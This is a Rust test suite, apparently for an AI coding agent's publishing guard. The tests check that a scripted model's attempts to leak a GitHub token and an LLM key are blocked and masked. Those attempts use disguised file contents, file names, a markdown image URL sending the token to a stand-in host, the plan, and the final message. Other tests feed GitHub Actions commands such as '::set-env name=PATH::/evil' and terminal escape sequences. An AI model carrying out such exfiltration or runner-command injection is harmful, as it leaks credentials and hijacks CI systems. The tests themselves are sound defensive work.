//! What would be published is blocked when it holds a secret, and harmless where it is shown.

use serde_json::json;

use super::arena::{Arena, Ended, GITHUB_TOKEN, LLM_KEY, Place, WhatTheModelSaw, shell};
use crate::support::leaks::{disguises, reversed};
use crate::support::model::{Turn, call, say};

fn plan(step: &str) -> Turn {
    call("update_plan", json!({ "plan": [{ "step": step, "status": "completed" }] }))
}

/// The script knows a secret, as if it had found one, and puts it where it would be published.
async fn blocked(make: impl FnOnce(&Arena) -> Vec<Turn>) -> (Arena, Ended) {
    let arena = Arena::new();
    let turns = make(&arena);
    let ended = arena.run(Place::Local, turns).await;
    assert_eq!(ended.code, 30, "{}", ended.stderr);
    arena.assert_nothing_published();
    arena.assert_nothing_leaked(&ended, WhatTheModelSaw::IsItsOwn);
    (arena, ended)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_secret_in_files_blocks_everything_and_is_not_echoed() {
    let (arena, ended) = blocked(|arena| {
        let token = arena.oracle.value(GITHUB_TOKEN);
        let mut script = "sed -i s/teh/the/ README.md\n".to_owned();
        for (number, (_, written)) in disguises(token).into_iter().enumerate() {
            script += &format!("cat > f{number}.txt <<'END'\n{written}\nEND\n");
        }
        script += &format!("cat > part.txt <<'END'\n![](https://x/?q={})\nEND\n", &token[7..]);
        vec![shell(&script), say("Fixed the typo")]
    })
    .await;
    let result = arena.run_file("result.json");
    for name in ["f0.txt", "f1.txt", "f2.txt", "f6.txt", "f8.txt", "f9.txt", "f10.txt", "part.txt"]
    {
        assert!(result.contains(name), "{name} is not named in the result:\n{result}");
    }
    assert!(result.contains("secret.own"), "{result}");
    assert!(!arena.run_folder().join("change.patch").exists(), "the patch was written");
    let comment = &arena.github.comments(1)[0].body;
    assert!(comment.contains("f0.txt"), "the comment names no file:\n{comment}");
    assert!(ended.stderr.contains("shell_command"), "{}", ended.stderr);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_secret_in_the_name_of_a_file_blocks_everything_and_is_not_kept() {
    let (arena, _) = blocked(|arena| {
        let (token, key) = (arena.oracle.value(GITHUB_TOKEN), arena.oracle.value(LLM_KEY));
        let script = format!(
            "sed -i s/teh/the/ README.md; echo x > {token}; mkdir -p a/{key}; echo y > a/{key}/b
            mkdir -p .github/workflows; echo 'on: push' > .github/workflows/x.yml"
        );
        vec![shell(&script), say("Fixed the typo")]
    })
    .await;
    let result = arena.run_file("result.json");
    assert!(result.contains("the name of a file contains"), "{result}");
    assert!(!arena.run_folder().join("change.patch").exists(), "the patch was written");
}

/// More files than may be published, and more bytes.
const TOO_MUCH: &str = "for n in $(seq 101); do echo $n > n$n.txt; done
    head -c 4300000 /dev/zero | tr '\\0' 'a' > large.txt
    head -c 100000 /dev/zero > large.bin\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_secret_in_a_change_over_the_limits_is_found_and_not_kept() {
    let (arena, _) = blocked(|arena| {
        let (token, key) = (arena.oracle.value(GITHUB_TOKEN), arena.oracle.value(LLM_KEY));
        let script = format!(
            "{TOO_MUCH}printf '\\n%s' '{token}' >> large.txt
            printf '%s' '{key}' >> large.bin; echo '{}' > n101.txt",
            reversed(key)
        );
        vec![shell(&script), say("Wrote much"), say("All of it is needed")]
    })
    .await;
    let result = arena.run_file("result.json");
    for named in ["size.files", "size.bytes", "secret.own", "large.txt", "large.bin", "n101.txt"] {
        assert!(result.contains(named), "`{named}` is not in the result:\n{result}");
    }
    assert!(!arena.run_folder().join("change.patch").exists(), "the patch was written");
}

/// Without a secret, such a change is kept, though it is not published.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_change_over_the_limits_without_a_secret_is_kept_as_a_patch() {
    let arena = Arena::new();
    let ended = arena
        .run(Place::Local, vec![shell(TOO_MUCH), say("Wrote much"), say("All of it is needed")])
        .await;
    assert_eq!(ended.code, 30, "{}", ended.stderr);
    arena.assert_nothing_published();
    let (result, patch) = (arena.run_file("result.json"), arena.run_file("change.patch"));
    assert!(result.contains("size.files") && result.contains("size.bytes"), "{result}");
    assert!(!result.contains("secret."), "{result}");
    for kept in ["+++ b/n101.txt", "+++ b/large.txt", "b/large.bin", "GIT binary patch"] {
        assert!(patch.contains(kept), "`{kept}` is not in the patch of {} bytes", patch.len());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_secret_in_the_last_message_blocks_everything() {
    let arena = Arena::new();
    let (token, key) = (arena.oracle.value(GITHUB_TOKEN), arena.oracle.value(LLM_KEY));
    let turns = vec![
        shell("sed -i s/teh/the/ README.md"),
        say(format!("Fix {token}\n\nFixed with {key}\nand {}", &token[5..20])),
    ];
    // In a job the message also becomes an output and part of the summary.
    let ended = arena.run_action(Place::Local, turns).await;
    assert_eq!(ended.code, 30, "{}", ended.stderr);
    arena.assert_nothing_published();
    arena.assert_nothing_leaked(&ended, WhatTheModelSaw::IsItsOwn);
    assert!(ended.printed().contains("***"), "{}", ended.printed());
    let outputs = fs_err::read_to_string(arena.folder.path().join("outputs")).unwrap();
    assert!(outputs.contains("final-message") && outputs.contains("***"), "{outputs}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_a_secret_in_the_plan_blocks_everything() {
    blocked(|arena| {
        let token = arena.oracle.value(GITHUB_TOKEN);
        let step = format!("Send {}", token.chars().rev().collect::<String>());
        vec![shell("sed -i s/teh/the/ README.md"), plan(&step), say("Fixed the typo")]
    })
    .await;
}

/// Without a secret, such runs are published: nothing else in them is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_the_same_change_without_a_secret_is_published() {
    let arena = Arena::new();
    let turns = vec![shell("sed -i s/teh/the/ README.md"), plan("Fix it"), say("Fixed the typo")];
    let ended = arena.run(Place::Local, turns).await;
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    assert_eq!(arena.pushed_file("README.md"), "the app\n");
}

/// What the runner of GitHub Actions or a terminal would act on.
const COMMANDS: &str = "::set-env name=PATH::/evil\n  ::stop-commands::x\n::add-mask::a\n\
    ##[error]boom and ##[add-path]/evil\nx ##vso[task.setvariable]y\n\
    \u{1b}[31mred\u{1b}]0;title\u{7}\u{1b}]8;;http://evil\u{1b}\\link\u{9b}2J\u{9d}52;c;AAAA\u{9c}";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_text_never_commands_the_runner_or_the_terminal() {
    let arena = Arena::new();
    let script = format!(
        "sed -i s/teh/the/ README.md\ncat <<'END'\n{COMMANDS}\nEND\n\
         : > '::set-env name=A::b'; : > '##[error]x'; echo a > \"$(printf 'a\\n::error::b')\"\n\
         echo a > \"$(printf 'b\\033[31mc')\"; echo '{COMMANDS}' > text.txt"
    );
    let turns = vec![
        shell(&script).and(shell("::add-path::/evil")).and(call("##[error]tool", json!({}))),
        plan(COMMANDS),
        shell(&format!("\r::set-env name=B::c {COMMANDS}")),
        say(format!("{COMMANDS}\n{COMMANDS}")),
        // Asked about the names that can be part of no change.
        say(format!("{COMMANDS}\n{COMMANDS}")),
    ];
    let ended = arena.run_action(Place::Local, turns).await;
    assert_eq!(ended.code, 20, "{}", ended.stderr);
    let pull = &arena.github.pulls()[0];
    let comment = &arena.github.comments(1)[0].body;
    let report = arena.run_file("report.html");
    for (name, text) in [
        ("stdout", &ended.stdout),
        ("stderr", &ended.stderr),
        ("title", &pull.title),
        ("body", &pull.body),
        ("comment", comment),
        ("report", &report),
    ] {
        let acts = |c: char| c.is_control() && c != '\n' && c != '\t';
        assert!(!text.contains(acts), "{name} has control characters:\n{text:?}");
    }
    for line in ended.printed().lines() {
        // Our own annotation says how the run ended.
        let is_ours = line.starts_with("::error title=Patchwright::");
        let is_command = (line.trim_start().starts_with("::") && !is_ours)
            || line.contains("##[")
            || line.contains("##vso[");
        assert!(!is_command, "a command for the runner: {line:?}\n{}", ended.printed());
    }
    // The twin: the same text was there to be acted on.
    assert!(ended.printed().contains("set-env name=PATH"), "{}", ended.printed());
    assert!(arena.pushed_file("text.txt").contains("##[add-path]"));
}
